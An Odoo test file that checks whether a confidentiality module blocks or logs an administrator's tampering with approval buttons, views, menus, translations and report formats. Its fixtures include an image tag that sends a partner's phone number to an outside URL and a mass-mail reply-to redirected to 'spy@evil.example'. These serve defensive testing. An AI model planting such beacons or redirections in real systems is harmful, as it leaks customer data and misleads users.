import base64
from types import SimpleNamespace
from unittest.mock import patch

from odoo.exceptions import AccessError
from odoo.tests import new_test_user, tagged

from .common import TierCase


@tagged("post_install", "-at_install")
class TestWatchedDisplay(TierCase):
    """X5: what people see of our documents is changed in the open, and buttons do what they say."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env.ref("kehu_confidential.group_tier_officer").user_ids = cls.officer
        cls.admin = new_test_user(cls.env, "test_admin", "base.group_system", name="Zhou")
        cls.form = cls.env.ref("kehu_workflow.kehu_approval_view_form").with_user(cls.admin)

    def noted(self, model):
        return str(
            self.env["kehu.access.log"]
            .search([("user_id", "=", self.admin.id), ("action", "=", "right"), ("res_model", "=", model)])
            .mapped("note")
        )

    def told(self, model):
        return self.env["kehu.right.change"].search([("res_model", "=", model), ("requester_id", "=", self.admin.id)])

    def extend(self, arch, **vals):
        return (
            self.env["ir.ui.view"]
            .with_user(self.admin)
            .create(
                {
                    "name": "x",
                    "model": "kehu.approval",
                    "inherit_id": self.form.id,
                    "arch": f"<data>{arch}</data>",
                    **vals,
                }
            )
        )

    # === BUTTONS ===

    def test_button_of_ours_gets_no_other_label(self):
        for number, arch in enumerate(
            (
                '<button name="action_approve" position="attributes"><attribute name="string">Refuse</attribute></button>',
                '<button name="action_approve" position="attributes"><attribute name="name">withdraw</attribute></button>',
                '<button name="action_approve" position="attributes"><attribute name="confirm">Refuse '
                "it?</attribute></button>",
                '<button name="action_approve" position="replace"><button name="action_approve" type="object" '
                'string="Refuse"/></button>',
                '<button name="action_approve" position="inside"><span>Refuse</span></button>',
                '<button name="action_approve" position="after"><a name="approve" type="object">Refuse</a></button>',
            )
        ):
            with (
                self.subTest(number),
                self.assertRaisesRegex(AccessError, "keep what they do"),
                self.env.cr.savepoint(),
            ):
                self.extend(arch)
        with self.assertRaisesRegex(AccessError, "keep what they do"), self.env.cr.savepoint():
            self.form.arch = self.form.arch.replace('string="Approve"', 'string="Refuse"')
        with self.assertRaisesRegex(AccessError, "keep what they do"), self.env.cr.savepoint():
            self.env["ir.ui.view"].with_user(self.admin).create(
                {
                    "name": "x",
                    "model": "kehu.approval",
                    "arch": '<form><button name="action_approve" type="object" string="Refuse"/></form>',
                }
            )

    def test_button_of_ours_gets_no_other_translation(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        with self.assertRaisesRegex(AccessError, "keep what they do"), self.env.cr.savepoint():
            self.form.update_field_translations("arch_db", {"zh_CN": {"Approve": "退回", "Refuse": "批准"}})
        terms = (
            "module,type,name,res_id,src,value\n"
            'kehu_workflow,model_terms,"ir.ui.view,arch_db",kehu_workflow.kehu_approval_view_form,Approve,退回\n'
        )
        with self.assertRaisesRegex(AccessError, "keep what they do"), self.env.cr.savepoint():
            self.env["base.language.import"].with_user(self.admin).create(
                {
                    "name": "中文",
                    "code": "zh_CN",
                    "filename": "names.csv",
                    "overwrite": True,
                    "data": base64.b64encode(terms.encode()),
                }
            ).import_lang()

    def test_button_is_moved_and_hidden_in_the_open(self):
        view = self.extend(
            '<button name="action_approve" position="attributes"><attribute name="invisible">1</attribute></button>'
        )
        self.assertIn("action_approve", self.noted("ir.ui.view"))
        view.active = False
        self.assertIn("True → —", self.noted("ir.ui.view"))
        self.assertTrue(self.told("ir.ui.view"))
        self.extend(
            '<button name="action_approve" position="after"><button name="%d" type="action" string="Help"/></button>'
            % self.env.ref("kehu_confidential.kehu_right_change_action").id
        )

    # === VIEWS, MENUS, ACTIONS ===

    def test_view_of_another_app_is_free(self):
        self.env["ir.ui.view"].with_user(self.admin).create(
            {"name": "x", "model": "res.bank", "arch": '<form><field name="name"/></form>'}
        )
        self.assertEqual(self.noted("ir.ui.view"), "[]")

    def test_view_that_leads_elsewhere_is_noted_and_told(self):
        View = self.env["ir.ui.view"].with_user(self.admin)
        picture = '<img alt="x" t-attf-src="https://example.com/?{{record.phone.raw_value}}"/>'
        for model, arch, expected in (
            ("res.partner", f'<kanban><templates><t t-name="card">{picture}</t></templates></kanban>', "t-attf-src"),
            ("res.partner", '<list><field name="name"/></list>', "res.partner"),
            ("res.bank", '<form><iframe src="https://example.com"/></form>', "iframe"),
        ):
            with self.subTest(arch):
                View.create({"name": "x", "model": model, "arch": arch})
                self.assertIn(expected, self.noted("ir.ui.view"))
        self.assertEqual(len(self.told("ir.ui.view")), 3)

    def test_where_colleagues_are_led_is_noted_and_told(self):
        action = (
            self.env["ir.actions.act_url"].with_user(self.admin).create({"name": "x", "url": "https://example.com"})
        )
        self.assertIn("https://example.com", self.noted("ir.actions.act_url"))
        self.env["ir.actions.client"].with_user(self.admin).create({"name": "x", "tag": "elsewhere"})
        self.assertIn("elsewhere", self.noted("ir.actions.client"))
        self.officer.with_user(self.admin).action_id = action.id
        self.assertIn(action.name, self.noted("res.users"))
        self.assertTrue(self.told("ir.actions.act_url") and self.told("res.users"))

    def test_where_text_messages_leave_is_noted_and_told(self):
        if "iap.account" not in self.env:
            self.skipTest("There is no app by which text messages are paid for.")
        service = self.env["iap.service"].search([], limit=1)
        self.env["iap.account"].with_user(self.admin).create({"service_id": service.id, "account_token": "spy"})
        self.assertTrue(self.told("iap.account"))

    def test_what_the_log_calls_things_is_noted_and_told(self):
        self.env["ir.model"]._get("kehu.approval").with_user(self.admin).name = "Language"
        self.env["ir.model"]._get("res.bank").with_user(self.admin).name = "House"
        self.assertIn("→ Language", self.noted("ir.model"))
        self.assertNotIn("House", self.noted("ir.model"))
        group = self.env.ref("kehu_confidential.group_clearance_top_secret").with_user(self.admin)
        group.privilege_id.name = "Printing"
        self.assertIn("→ Printing", self.noted("res.groups.privilege"))
        group.privilege_id = False
        self.assertIn("Printing → —", self.noted("res.groups"))
        self.assertTrue(self.told("ir.model") and self.told("res.groups.privilege") and self.told("res.groups"))

    def test_what_officers_see_is_changed_in_the_open(self):
        action = self.env.ref("kehu_confidential.kehu_right_change_action").with_user(self.admin)
        search = self.env.ref("kehu_confidential.kehu_right_change_view_search").with_user(self.admin)
        root = self.env.ref("kehu_confidential.menu_confidentiality").with_user(self.admin)
        sending = self.env.ref("mail.action_partner_mass_mail").with_user(self.admin)
        for model, change, expected in (
            ("ir.actions.act_window", lambda: action.write({"view_mode": "pivot"}), "pivot"),
            (
                "ir.actions.act_window",
                lambda: sending.write({"context": "{'default_reply_to': 'spy@evil.example'}"}),
                "spy@evil.example",
            ),
            (
                "ir.actions.act_window.view",
                lambda: (
                    self.env["ir.actions.act_window.view"]
                    .with_user(self.admin)
                    .create({"act_window_id": action.id, "view_mode": "list", "view_id": False})
                ),
                "list",
            ),
            ("ir.ui.view", lambda: search.write({"arch": search.arch.replace("'pending'", "'refused'")}), "refused"),
            ("ir.ui.menu", lambda: root.write({"active": False}), "True → —"),
            (
                "mail.message.subtype",
                lambda: self.env.ref("mail.mt_comment").with_user(self.admin).write({"default": False}),
                "True → —",
            ),
        ):
            with self.subTest(model):
                before = len(self.told(model))
                change()
                self.assertIn(expected, self.noted(model))
                self.assertEqual(len(self.told(model)), before + 1)

    def test_translated_names_are_noted_and_told(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        self.env.ref("kehu_confidential.menu_confidentiality").with_user(self.admin).update_field_translations(
            "name", {"zh_CN": "无"}
        )
        self.assertIn("→ 无", self.noted("ir.ui.menu"))
        self.assertEqual(len(self.told("ir.ui.menu")), 1)
        label = self.env.ref("kehu_workflow.field_kehu_approval_decision__verdict").with_user(self.admin)
        label.update_field_translations("field_description", {"zh_CN": "无关"})
        self.assertIn("→ 无关", self.noted("ir.model.fields"))
        self.env.ref("kehu_confidential.group_tier_auditor").with_user(self.admin).update_field_translations(
            "name", {"zh_CN": "访客"}
        )
        self.assertIn("→ 访客", self.noted("res.groups"))

    def test_moved_menu_and_names_of_others_are_free(self):
        menu = self.env.ref("kehu_confidential.kehu_right_change_menu").with_user(self.admin)
        menu.sequence = 99
        self.env.ref("base.menu_administration").with_user(self.admin).web_icon = "x,y.png"
        self.env["ir.ui.menu"].with_user(self.admin).create({"name": "Own"})
        self.env["ir.actions.act_window"].with_user(self.admin).create({"name": "Banks", "res_model": "res.bank"})
        for model in ("ir.ui.menu", "ir.actions.act_window"):
            self.assertEqual(self.noted(model), "[]")

    # === FORMATS ===

    def test_formats_of_amounts_and_papers_are_noted_and_told(self):
        for model, change, expected in (
            (
                "res.company",
                lambda: self.env.company.with_user(self.admin).write({"primary_color": "#123456"}),
                "#123456",
            ),
            (
                "res.company",
                lambda: self.env.company.with_user(self.admin).write({"report_footer": "<p>Forged</p>"}),
                "Forged",
            ),
            ("res.currency", lambda: self.env.company.currency_id.with_user(self.admin).write({"symbol": "?"}), "→ ?"),
            (
                "res.lang",
                lambda: self.env.ref("base.lang_en").with_user(self.admin).write({"date_format": "%Y/%m/%d"}),
                "→ %Y/%m/%d",
            ),
            (
                "decimal.precision",
                lambda: self.env["decimal.precision"].search([], limit=1).with_user(self.admin).write({"digits": 5}),
                "→ 5",
            ),
            (
                "ir.actions.report",
                lambda: (
                    self.env["ir.actions.report"]
                    .with_user(self.admin)
                    .create({"name": "x", "model": "kehu.approval", "report_name": "x.forged"})
                ),
                "x.forged",
            ),
        ):
            with self.subTest(model):
                change()
                self.assertIn(expected, self.noted(model))
                self.assertTrue(self.told(model))

    def test_report_of_what_can_be_confidential_is_watched(self):
        reports = self.env["ir.actions.report"].create(
            [
                {"name": model, "model": model, "report_name": "kehu_confidential.none"}
                for model in ("res.partner", "res.country")
            ]
        )
        reports.with_user(self.admin).model = "res.bank"
        self.assertIn("res.partner", self.noted("ir.actions.report"))
        self.assertEqual(self.told("ir.actions.report").mapped("res_ids"), [reports[0].ids])

    def test_printed_is_noted_whatever_the_report_says(self):
        customer = self.env["res.partner"].create({"name": "Secret", "is_company": True, "kehu_tier": "2"})
        report = self.env["ir.actions.report"].create(
            {"name": "Card", "model": "res.country", "report_name": "kehu_confidential.none"}
        )
        reports = report.with_user(self.cleared)
        values = SimpleNamespace(
            _get_report_values=lambda ids, data=None: {"docs": reports.env["res.partner"].browse(ids)}
        )
        with patch.object(type(reports), "_get_rendering_context_model", lambda self, report: values):
            with self.assertRaisesRegex(AccessError, "confidential"):
                reports._get_rendering_context(reports, customer.ids, {})
            self.cleared.group_ids += self.env.ref("kehu_confidential.group_confidential_export")
            reports._get_rendering_context(reports, customer.ids, {})
        printed = [("action", "=", "print"), ("res_model", "=", "res.partner"), ("res_id", "=", customer.id)]
        self.assertEqual(self.env["kehu.access.log"].search(printed).user_id, self.cleared)
